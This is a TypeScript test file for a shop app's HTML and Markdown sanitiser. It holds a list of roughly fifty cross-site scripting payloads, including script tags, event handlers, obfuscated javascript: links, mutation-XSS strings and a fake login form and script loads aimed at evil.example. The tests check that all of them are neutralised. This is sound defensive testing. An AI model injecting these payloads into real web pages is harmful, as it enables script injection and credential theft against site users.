import type { ComponentProps } from "react";
import { describe, expect, expectTypeOf, test } from "vitest";
import type { RichText } from "#app/routes/shop/parts/rich-text.tsx";
import type { paragraphsOf } from "#server/mail/shop-words.ts";
import { richText } from "#server/shop/rich-text.ts";
import { callerAt } from "#tests/support/caller.ts";
import { useDatabase } from "#tests/support/database.ts";
import { FRIDAY, openWorld } from "#tests/support/world.ts";

/** What people try, as HTML and as Markdown. None may leave a script, a handler, a frame or a treacherous link. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<body onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=https://evil.example><input name=password><button>Log in</button></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>hi</p>",
  "<p onclick=alert(1) onmouseover='alert(1)'>hi</p>",
  "<a href='javascript:alert(1)'>hi</a>",
  "<a href='JaVaScRiPt:alert(1)'>hi</a>",
  "<a href='java\tscript:alert(1)'>hi</a>",
  "<a href='java\nscript:alert(1)'>hi</a>",
  "<a href='&#106;avascript:alert(1)'>hi</a>",
  "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>hi</a>",
  "<a href='\u0001javascript:alert(1)'>hi</a>",
  "<a href='vbscript:msgbox(1)'>hi</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>hi</a>",
  "<a href='//evil.example'>hi</a>",
  "<a href='https://fine.example' onclick=alert(1) target=_blank>hi</a>",
  "[hi](javascript:alert(1))",
  "[hi](JAVASCRIPT&colon;alert(1))",
  "[hi](data:text/html,<script>alert(1)</script>)",
  "![hi](javascript:alert(1))",
  "![hi](https://evil.example/track.gif)",
  "[hi]: javascript:alert(1)\n\n[hi]",
  "<javascript:alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "<details open ontoggle=alert(1)>hi</details>",
  "<video><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea></textarea><script>alert(1)</script>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<a href="https://x.example/" href="javascript:alert(1)">hi</a>',
  "<p id=cart name=shop class=dialog data-discover=true>hi</p>",
];

const ALLOWED_TAG = /^<\/?(?:p|br|b|i|em|strong|u|ul|ol|li|h2|h3|a)(?: (?:href|rel)="[^"]*")*(?: \/)?>$/;

const database = useDatabase();

/** Settings whose text a page draws as HTML, or a mail turns into words. */
const DRAWN = [
  "home_page",
  "about_page",
  "help_page",
  "safety_measures",
  "pickup_info",
  "delivery_info",
  "fulfillment_instructions",
];

test("SEC-A16 STORE-07 of every text that a page draws as HTML, the server tells what the sanitiser made of it", async () => {
  const world = await openWorld(database);
  const columns = Object.fromEntries(
    DRAWN.map((name) => [name, `**${name}**<img src=x onerror=alert(1)><script>alert(1)</script>`]),
  );
  await world.set("shop_settings", world.a, { ...columns, enable_about_page: true });
  const shop = await callerAt({ shop: "sweetcrumb" }).ask((api) => api.shop.current());
  const { a, people } = world;
  const order = await callerAt({ shop: "sweetcrumb", token: people.customerSelf.token }).ask(async (api) => {
    const { order: placed } = await api.orders.place({
      availabilityId: a.windowId,
      fulfillmentType: "Pickup",
      fulfillmentSlot: FRIDAY,
      lines: [{ itemId: a.rye, quantity: 1 }],
    });
    return api.orders.mineOne({ orderId: placed.id });
  });
  const safe = (name: string) => `<p><strong>${name}</strong></p>`;
  expect([
    shop.homePage,
    shop.aboutPage,
    shop.helpPage,
    shop.safetyMeasures,
    shop.pickupInfo,
    shop.deliveryInfo,
    shop.fulfillmentInstructions,
  ]).toEqual(DRAWN.map(safe));
  expect(order.instructions).toBe(`${safe("fulfillment_instructions")}\n${safe("pickup_info")}`);
});

test("SEC-A16 the compiler refuses a plain text where HTML is drawn, in pages and in mails", () => {
  expectTypeOf<string>().not.toExtend<ComponentProps<typeof RichText>["html"]>();
  expectTypeOf<string>().not.toExtend<Parameters<typeof paragraphsOf>[0]>();
  expectTypeOf(richText).returns.toExtend<ComponentProps<typeof RichText>["html"]>();
});

describe("SEC-A16 rich text", () => {
  test.each(ATTACKS.map((attack) => [attack]))("SEC-A16 nothing runs of %j", (attack) => {
    const html = richText(attack);
    for (const [tag] of html.matchAll(/<[^>]*>/g)) expect(tag).toMatch(ALLOWED_TAG);
    for (const [, href = ""] of html.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^(?:https?|mailto|tel):/);
    expect(html.replace(/<[^>]*>/g, "")).not.toContain("<");
  });

  test("STORE-07 Markdown and simple HTML come through", () => {
    expect(richText("# Hello\n\nWe **bake** on\n*Fridays*.\n\n- rye\n- spelt")).toBe(
      "<h2>Hello</h2>\n<p>We <strong>bake</strong> on<br /><em>Fridays</em>.</p>\n<ul>\n<li>rye</li>\n<li>spelt</li>\n</ul>",
    );
    expect(richText("<p>Call <a href='tel:4155550142'>us</a></p>")).toBe(
      '<p>Call <a href="tel:4155550142" rel="noopener noreferrer nofollow">us</a></p>',
    );
    expect(richText(" \n ")).toBe("");
  });

  test.each(["*a_", "[a](", "> ", ">", "<", "<b>", "<a href='", "![", "`", "&#", "~~a~"].map((odd) => [odd]))(
    "REL-R15 50 000 characters of %j are cleaned in a moment, or said as they are",
    (odd) => {
      const startedAt = performance.now();
      const html = richText(odd.repeat(50_000 / odd.length));
      expect(performance.now() - startedAt).toBeLessThan(2_000);
      for (const [tag] of html.matchAll(/<[^>]*>/g)) expect(tag).toMatch(ALLOWED_TAG);
    },
  );
});
